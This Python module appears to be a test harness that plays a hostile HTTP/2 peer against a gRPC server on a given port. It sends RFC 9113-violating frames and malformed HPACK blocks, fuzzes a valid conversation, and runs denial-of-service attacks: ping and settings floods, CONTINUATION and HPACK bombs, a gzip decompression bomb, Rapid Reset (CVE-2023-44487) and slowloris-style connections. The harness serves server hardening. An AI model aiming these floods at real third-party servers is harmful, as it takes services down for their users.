"""What a hostile or broken peer does. Each function is one attack on a port; some take a scale
(1: the short form). What it returns is printed."""
import gzip
import random

from peer import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING,
                  PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Peer, call,
                  frame, header, message, request_block, settings, text)

# ---- Frames that RFC 9113 forbids

HUGE = 2**31 - 1
CANCEL = (8).to_bytes(4, "big")


def begun(stream=1):
    """A call that has begun and goes on."""
    return frame(HEADERS, END_HEADERS, stream, request_block())


# Name, bytes after the preface and SETTINGS. All are connection errors or worse: the server has to
# survive them, and hang up or answer on the stream.
MALFORMED = [
    ("DATA on stream 0", frame(DATA, 0, 0, b"x")),
    ("DATA on an idle stream", frame(DATA, 0, 5, b"x")),
    ("DATA after the end", call(1) + frame(DATA, 0, 1, b"x" * 100)),
    ("DATA with more padding than bytes", begun() + frame(DATA, PADDED, 1, b"\xff12")),
    ("DATA with no padding length", begun() + frame(DATA, PADDED, 1, b"")),
    ("HEADERS on stream 0", frame(HEADERS, END_HEADERS, 0, request_block())),
    ("HEADERS on an even stream", frame(HEADERS, END_HEADERS, 2, request_block())),
    ("HEADERS on an older stream", begun(7) + begun(5)),
    ("HEADERS with more padding than bytes", frame(HEADERS, END_HEADERS | PADDED, 1, b"\xff1")),
    ("HEADERS cut off by another frame", frame(HEADERS, 0, 1, request_block()) + frame(PING, 0, 0, bytes(8))),
    ("HEADERS twice", begun() + begun()),
    ("PRIORITY of 4 bytes", frame(PRIORITY, 0, 1, bytes(4))),
    ("PRIORITY on stream 0", frame(PRIORITY, 0, 0, bytes(5))),
    ("RST_STREAM on stream 0", frame(RST_STREAM, 0, 0, CANCEL)),
    ("RST_STREAM on an idle stream", frame(RST_STREAM, 0, 9, CANCEL)),
    ("RST_STREAM of 3 bytes", begun() + frame(RST_STREAM, 0, 1, bytes(3))),
    ("SETTINGS of 5 bytes", frame(SETTINGS, 0, 0, bytes(5))),
    ("SETTINGS on a stream", frame(SETTINGS, 0, 1, b"")),
    ("SETTINGS ACK with a body", frame(SETTINGS, ACK, 0, bytes(6))),
    ("SETTINGS with a huge window", settings((4, 2**32 - 1))),
    ("SETTINGS with a tiny frame size", settings((5, 1))),
    ("SETTINGS with ENABLE_PUSH 2", settings((2, 2))),
    ("PUSH_PROMISE from a client", frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + request_block())),
    ("PING of 7 bytes", frame(PING, 0, 0, bytes(7))),
    ("PING on a stream", frame(PING, 0, 1, bytes(8))),
    ("GOAWAY of 4 bytes", frame(GOAWAY, 0, 0, bytes(4))),
    ("GOAWAY on a stream", frame(GOAWAY, 0, 1, bytes(8))),
    ("WINDOW_UPDATE of 3 bytes", frame(WINDOW_UPDATE, 0, 0, bytes(3))),
    ("WINDOW_UPDATE of 0", frame(WINDOW_UPDATE, 0, 0, bytes(4))),
    ("WINDOW_UPDATE beyond 2^31", 2 * frame(WINDOW_UPDATE, 0, 0, HUGE.to_bytes(4, "big"))),
    ("WINDOW_UPDATE beyond 2^31 on a stream",
     begun() + 2 * frame(WINDOW_UPDATE, 0, 1, HUGE.to_bytes(4, "big"))),
    ("CONTINUATION out of nowhere", frame(CONTINUATION, END_HEADERS, 1, request_block())),
    ("CONTINUATION on another stream",
     frame(HEADERS, 0, 1, request_block()) + frame(CONTINUATION, END_HEADERS, 3, b"")),
    ("a frame beyond the largest size", frame(DATA, 0, 1, bytes(1 << 20))),
    ("a length of 2^24 - 1", b"\xff\xff\xff" + frame(DATA, 0, 1, b"")[3:]),
    ("frames of unknown kinds", b"".join(frame(kind, 255, 3, b"?" * kind) for kind in range(10, 200))),
    ("HPACK: an index out of the table", frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\x07")),
    ("HPACK: index 0", frame(HEADERS, END_HEADERS, 1, b"\x80")),
    ("HPACK: an integer without end", frame(HEADERS, END_HEADERS, 1, b"\xff" * 100)),
    ("HPACK: a string longer than its block", frame(HEADERS, END_HEADERS, 1, b"\0\x7f\xff\xff\x7fx")),
    ("HPACK: Huffman padding that is none", frame(HEADERS, END_HEADERS, 1, b"\0\x81\0\x81\0")),
    ("HPACK: a table of 4 GiB", frame(HEADERS, END_HEADERS, 1, b"\x3f\xff\xff\xff\xff\x0f")),
    ("HPACK: cut in the middle", frame(HEADERS, END_HEADERS, 1, request_block()[:-3])),
    ("no :path", frame(HEADERS, END_HEADERS | END_STREAM, 1, header(":method", "POST"))),
    ("upper case in a name", frame(HEADERS, END_HEADERS, 1, request_block() + header("Xx", "y"))),
    ("zero bytes in a value", frame(HEADERS, END_HEADERS, 1, request_block() + header("x", b"\0\r\n"))),
    ("a pseudo-header of its own", frame(HEADERS, END_HEADERS, 1, request_block() + header(":x", "y"))),
    ("GET", frame(HEADERS, END_HEADERS | END_STREAM, 1, header(":method", "GET") + header(":path", "/"))),
    ("a message longer than it says", begun() + frame(DATA, END_STREAM, 1, message(b"abc")[:-1])),
    ("a message of 4 GiB", begun() + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff")),
    ("a message flag of 7", begun() + frame(DATA, END_STREAM, 1, message(b"", 7))),
    ("a compressed flag without an encoding", begun() + frame(DATA, END_STREAM, 1, message(b"x", 1))),
    ("an encoding nobody knows", frame(HEADERS, END_HEADERS, 1, request_block(
        "/grpc.health.v1.Health/Check", ("grpc-encoding", "brotli"))) +
     frame(DATA, END_STREAM, 1, message(b"x", 1))),
    ("gzip that is none", frame(HEADERS, END_HEADERS, 1, request_block(
        "/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"))) +
     frame(DATA, END_STREAM, 1, message(b"this is no gzip", 1))),
    ("gzip that is cut off", frame(HEADERS, END_HEADERS, 1, request_block(
        "/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"))) +
     frame(DATA, END_STREAM, 1, message(gzip.compress(bytes(1000))[:-9], 1))),
    ("a timeout that is none", frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(
        "/grpc.health.v1.Health/Check", ("grpc-timeout", "99999999999999999999Z")))),
]
FIRST_BYTES = [
    ("HTTP/1.1", b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("a TLS hello", bytes.fromhex("1603010200010001fc0303") + bytes(100)),
    ("a preface with another end", PREFACE[:-2] + b"xx" + settings()),
    ("a preface, then no SETTINGS", PREFACE + frame(PING, 0, 0, bytes(8))),
    ("zeros", bytes(1000)),
    ("nothing", b""),
]


def malformed(port):
    """All rows of MALFORMED and FIRST_BYTES, each on its own connection."""
    verdicts = {}
    for begins, rows in (False, FIRST_BYTES), (True, MALFORMED):
        for _, sent in rows:
            peer = Peer(port, begins)
            peer.send(sent)
            said = peer.verdict(asks=True)
            verdicts[said] = verdicts.get(said, 0) + 1
            peer.close()
    return ", ".join(f"{count} x {said}" for said, count in sorted(verdicts.items()))


def mutations(port, seed, scale):
    """Bytes of a good conversation, a few of them changed, doubled, moved or left out."""
    rng = random.Random(seed)
    good = PREFACE + settings((4, 65535)) + call(1) + frame(PING, 0, 0, bytes(8)) + call(3) + \
        frame(RST_STREAM, 0, 3, CANCEL) + call(5, "/tifo.v1.Crowd/GetCrowd", b"\x0a\x01v")
    for _ in range(400 * scale):
        data = bytearray(good)
        for _ in range(rng.randrange(1, 9)):
            at = rng.randrange(len(PREFACE) if rng.random() < 0.95 else 0, len(data))
            how = rng.randrange(4)
            if how == 0:
                data[at] = rng.randrange(256)
            elif how == 1:
                data[at] ^= 1 << rng.randrange(8)
            elif how == 2:
                del data[at:at + rng.randrange(1, 20)]
            else:
                data[at:at] = data[at:at + rng.randrange(1, 40)]
            if len(data) < 40:
                break
        peer = Peer(port, False)
        peer.send(bytes(data))
        peer.verdict()
        peer.close()
    return f"{400 * scale} conversations"


# ---- Floods: well-formed, and too much

def flood(port, what, count):
    """Sends it all, or as much as the server takes before it hangs up."""
    peer = Peer(port)
    sent = 0
    while sent < count and peer.send(what(sent)):
        sent += 1
    said = peer.verdict()
    peer.close()
    return f"{sent} of {count} chunks, then {said}"


def many(one, count):
    return one * count


def settings_flood(port):
    chunk = many(settings((4, 65535)), 1000)
    return flood(port, lambda _: chunk, 300)


def ping_flood(port):
    chunk = many(frame(PING, 0, 0, bytes(8)), 1000)
    return flood(port, lambda _: chunk, 300)


def empty_data_flood(port):
    chunk = many(frame(DATA, 0, 1, b""), 1000)
    return flood(port, lambda at: begun() if at == 0 else chunk, 300)


def priority_flood(port):
    def chunk(at):
        return b"".join(frame(PRIORITY, 0, 2 * (at * 1000 + i) + 1, bytes(5)) for i in range(1000))
    return flood(port, chunk, 100)


def window_flood(port):
    chunk = many(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")), 1000)
    return flood(port, lambda _: chunk, 300)


def continuation_flood(port):
    """64 MiB of one block of headers that never ends."""
    block = frame(CONTINUATION, 0, 1, many(header("x-flood", "y" * 100), 140))
    chunk = many(block, 8)
    return flood(port, lambda at: frame(HEADERS, 0, 1, request_block()) if at == 0 else chunk, 512)


def hpack_bomb(port):
    """One large header into the table, then a block of references to it, on stream after stream."""
    entry = b"\x40" + text("x-bomb") + text("z" * 3900)
    def chunk(at):
        if at == 0:
            return frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + entry)
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, request_block() + b"\xbe" * 16000)
    return flood(port, chunk, 300)


def large_headers(port):
    """Calls with ten times the metadata that is taken."""
    def chunk(at):
        block = request_block() + many(header("x-large", "y" * 1000), 15)
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, block)
    return flood(port, chunk, 1000)


def decompression_bomb(port):
    """Four megabytes that would become four gigabytes: 16 times."""
    packed = gzip.compress(bytes(256 << 20))
    packed = packed[:4 << 20]
    head = request_block("/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"))
    peer, refused = Peer(port), 0
    for i in range(16):
        stream, body = 2 * i + 1, message(packed, 1)
        peer.send(frame(HEADERS, END_HEADERS, stream, head))
        for at in range(0, len(body), 16384):
            last = END_STREAM if at + 16384 >= len(body) else 0
            peer.send(frame(DATA, last, stream, body[at:at + 16384]))
        while read := peer.read():
            if read[2] == stream and read[0] in (HEADERS, RST_STREAM) and read[1] & END_STREAM:
                refused += 1
                break
    peer.close()
    return f"{refused} of 16 refused"


def unfinished(port):
    """4 x 250 messages of 4 MiB, all but the last byte, as far as the windows allow."""
    taken, said = 0, []
    peers = [Peer(port) for _ in range(4)]
    for peer in peers:
        windows = {stream: 65535 - 5 for stream in range(1, 501, 2)}
        for stream in windows:
            peer.send(begun(stream) + frame(DATA, 0, stream, b"\0" + (4 << 20).to_bytes(4, "big")))
        taken += peer.fill(windows, 65535 - 5 * len(windows), 4 << 20)
    for peer in peers:
        said.append(peer.verdict())
        peer.close()
    return f"{taken >> 20} MiB taken, then {', '.join(sorted(set(said)))}"


def rapid_reset(port, count):
    """CVE-2023-44487: calls that are taken back at once, `count` of them."""
    block = request_block()

    def chunk(at):
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(2 * at * 500 + 1, 2 * (at + 1) * 500 + 1, 2))
    return flood(port, chunk, count // 500)


def too_many_streams(port):
    """Ten times the calls at a time that are allowed."""
    block = request_block()

    def chunk(at):
        return b"".join(frame(HEADERS, END_HEADERS, stream, block)
                        for stream in range(2 * at * 500 + 1, 2 * (at + 1) * 500 + 1, 2))
    return flood(port, chunk, 20)


# ---- Slow ones: they stay; whoever calls closes them

def slow_headers(port, count):
    """Half a block of headers, and nothing more."""
    peers = [Peer(port) for _ in range(count)]
    for peer in peers:
        peer.send(frame(HEADERS, 0, 1, request_block()[:40]))
    return peers


def slow_bodies(port, count):
    """Calls whose one message comes byte by byte."""
    peers = [Peer(port) for _ in range(count)]
    for peer in peers:
        peer.send(begun() + frame(DATA, 0, 1, b"\0"))
    for _ in range(3):
        for peer in peers:
            peer.send(frame(DATA, 0, 1, b"\0"))
    return peers


def slow_prefaces(port, count):
    peers = [Peer(port, False) for _ in range(count)]
    for at in range(3):
        for peer in peers:
            peer.send(PREFACE[at:at + 1])
    return peers


def idle_connections(port, count):
    peers = []
    for _ in range(count):
        peers.append(Peer(port))
    for peer in peers:  # Until each has been seen.
        peer.read()
    return peers
